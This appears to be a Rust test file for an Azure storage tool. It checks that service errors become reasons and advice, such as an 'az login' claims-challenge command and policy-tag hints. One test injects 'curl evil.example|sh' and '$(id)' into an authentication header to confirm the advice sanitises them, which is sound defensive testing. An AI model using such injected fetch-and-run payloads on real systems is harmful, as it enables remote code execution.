//! Advice follows the service's code, and what its message names: proofs of identity, places, quotas, policies, disabled subscriptions.

use blobfreight::azure::fault::{Fault, FaultKind};

use crate::http::backend::server::{Reply, Server, json};

const CLAIMS: &str = "eyJhY2Nlc3NfdG9rZW4iOnsiYWNycyI6eyJlc3NlbnRpYWwiOnRydWUsInZhbHVlcyI6WyJwMSJdfX19";

async fn asked(reply: Reply) -> Fault {
    let server = Server::start(&[("GET /subscriptions", reply)]);
    server.session().await.subscriptions().await.unwrap_err()
}

fn error(status: u16, code: &str, message: &str) -> Reply {
    json(status, &serde_json::json!({ "error": { "code": code, "message": message } }).to_string())
}

#[tokio::test]
async fn a_claims_challenge_is_told_with_the_command_that_meets_it() {
    let challenge = format!(
        r#"Bearer realm="", authorization_uri="https://login.microsoftonline.com/11111111-0000-4000-8000-000000000001", error="insufficient_claims", claims="{CLAIMS}""#
    );
    let reply = error(401, "InvalidAuthenticationToken", "no").header("www-authenticate", &challenge);
    let server = Server::start(&[("GET /subscriptions", reply)]);
    let fault = server.session().await.subscriptions().await.unwrap_err();
    assert_eq!((fault.kind, fault.status), (FaultKind::SignedOut, Some(401)), "{fault}");
    assert!(fault.reason.contains("multi-factor authentication"), "{fault}");
    let command = format!(
        "`az login --tenant \"11111111-0000-4000-8000-000000000001\" --scope \"{}//.default\" --claims-challenge \"{CLAIMS}\"`",
        server.here
    );
    assert!(fault.advice.as_deref().unwrap().contains(&command), "{fault}");

    let hostile = r#"Bearer error="insufficient_claims", claims="e30; curl evil.example|sh", authorization_uri="https://x/$(id)""#;
    let fault = asked(error(401, "InvalidAuthenticationToken", "no").header("www-authenticate", hostile)).await;
    assert!(fault.advice.as_deref().unwrap().contains("az login --scope"), "{fault}");
    assert!(!fault.to_string().contains("curl") && !fault.to_string().contains("$("), "{fault}");
}

#[tokio::test]
async fn azures_own_demand_for_multi_factor_authentication_is_no_missing_role() {
    let message = "Resource 'x' was disallowed by Azure: Please sign in with multi-factor authentication. See https://aka.ms/mfaforazure";
    let fault = asked(error(403, "RequestDisallowedByAzure", message)).await;
    assert_eq!(fault.kind, FaultKind::SignedOut, "{fault}");
    assert!(fault.reason.contains("multi-factor") && fault.advice.as_deref().unwrap().contains("`az login"), "{fault}");
    assert!(!fault.to_string().contains("role"), "{fault}");
}

#[tokio::test]
async fn what_a_code_means_decides_the_advice_and_not_its_status() {
    let regions = "australiaeast,southeastasia,japaneast,westeurope,northeurope,eastus,westus,centralus,koreacentral,uksouth,canadacentral,francecentral,germanywestcentral,switzerlandnorth,norwayeast,brazilsouth,southafricanorth";
    let location = format!(
        "The provided location 'moon' is not available for resource type 'Microsoft.ImportExport/jobs'. List of available regions for the resource type is '{regions}'."
    );
    let policy = r#"Resource 'job-1' was disallowed by policy. Policy identifiers: '[{"policyAssignment":{"name":"Require costCenter","id":"/p/1"},"policyDefinition":{"name":"Require a tag on resources","id":"/p/2"}}]'."#;
    for (status, code, message, reason, advice) in [
        (400, "LocationNotAvailableForResourceType", location.as_str(), "chosen location", "westus, centralus"),
        (400, "LocationNotAvailableForResourceType", &location, "chosen location", "southafricanorth."),
        (400, "QuotaExceeded", "You have 20 jobs.", "You have 20 jobs", "Finish or delete other jobs"),
        (409, "ReadOnlyDisabledSubscription", "disabled", "subscription is disabled", "enable it again"),
        (409, "ScopeLocked", "The scope '/x' is locked", "locked against", "remove the lock"),
        (409, "MissingSubscriptionRegistration", "x", "not registered", "Register"),
        (409, "SubscriptionNotRegistered", "x", "not registered", "Register"),
        (
            403,
            "RequestDisallowedByPolicy",
            policy,
            "the Azure Policy `Require costCenter`",
            "Add the tag it asks for at the Job step",
        ),
        (
            403,
            "RequestDisallowedByPolicy",
            "Resource was disallowed by policy. Reasons: 'Give it a costCenter tag: the tag 'costCenter' is missing.'",
            "an",
            "Add the tag `costCenter` at the Job step",
        ),
        (403, "RequestDisallowedByPolicy", "Only some SKUs.", "Only some SKUs", "which policy"),
        (403, "AuthorizationFailed", "no", "no role", "Ask an owner for the role Reader"),
        (403, "SomethingNew", "The moon is closed.", "The moon is closed", "Correct what the service names"),
        (400, "SomethingNew", "The moon is closed.", "The moon is closed", "Correct what the service names"),
    ] {
        let fault = asked(error(status, code, message)).await;
        assert!(fault.reason.contains(reason), "{code}: {fault}");
        assert!(fault.advice.as_deref().unwrap().contains(advice), "{code}: {fault}");
        assert_eq!(fault.status, Some(status));
    }
}

#[tokio::test]
async fn a_policy_that_names_its_tag_in_its_details_is_read() {
    let body = r#"{"error":{"code":"RequestDisallowedByPolicy","message":"Resource 'j' was disallowed by policy.","additionalInfo":[{"type":"PolicyViolation","info":{"policyAssignmentDisplayName":"Cost centres","evaluationDetails":{"evaluatedExpressions":[{"expression":"tags[costCenter]","result":"True"}]}}}]}}"#;
    let fault = asked(json(403, body)).await;
    assert!(fault.reason.contains("`Cost centres`"), "{fault}");
    assert!(fault.advice.as_deref().unwrap().contains("`costCenter`"), "{fault}");
}

#[tokio::test]
async fn an_account_in_the_host_below_localhost_is_on_this_machine() {
    use blobfreight::azure::{Azure, credentials::AccountAccess};
    let list =
        "<EnumerationResults><Containers><Container><Name>media</Name></Container></Containers></EnumerationResults>";
    let server = Server::start(&[("GET /", crate::http::backend::server::xml(200, list))]);
    let port = server.here.rsplit(':').next().unwrap();
    let endpoint = format!("http://devstoreaccount1.blob.localhost:{port}");
    let access =
        AccountAccess::from_connection_string(&format!("BlobEndpoint={endpoint};AccountKey=a2V5").into()).unwrap();
    assert_eq!(access.account(), "devstoreaccount1");
    let page = Azure::for_account_with(access, crate::http::backend::server::quick())
        .containers(&endpoint, None)
        .await
        .unwrap();
    assert_eq!(page.items[0].name, "media");
}
